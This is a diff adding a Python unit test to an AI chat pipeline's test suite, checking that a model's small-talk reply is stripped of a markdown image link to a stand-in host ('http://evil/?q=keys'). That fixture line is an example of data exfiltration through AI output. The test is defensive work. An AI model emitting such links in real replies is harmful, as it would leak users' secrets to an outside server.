@@ -592,6 +592,12 @@ def test_a_model_answers_small_talk_without_markers_and_the_pack_if_it_fails(wri
     assert reply.degraded == (() if written else ("small talk",))
 
 
+def test_small_talk_of_a_model_links_to_no_other_host() -> None:
+    small_talk = SmallTalk(client=ScriptedModel("My pleasure. ![x](http://evil/?q=keys)"))
+    reply, _ = asked(pipeline(small_talk=small_talk), Query(text="Thanks!"))
+    assert reply.answer.text == "My pleasure."
+
+
 def test_an_intent_has_a_prompt_of_its_own() -> None:
     generator = ScriptedGenerator(answers=[ANSWER, ANSWER])
     answering = pipeline(generator)
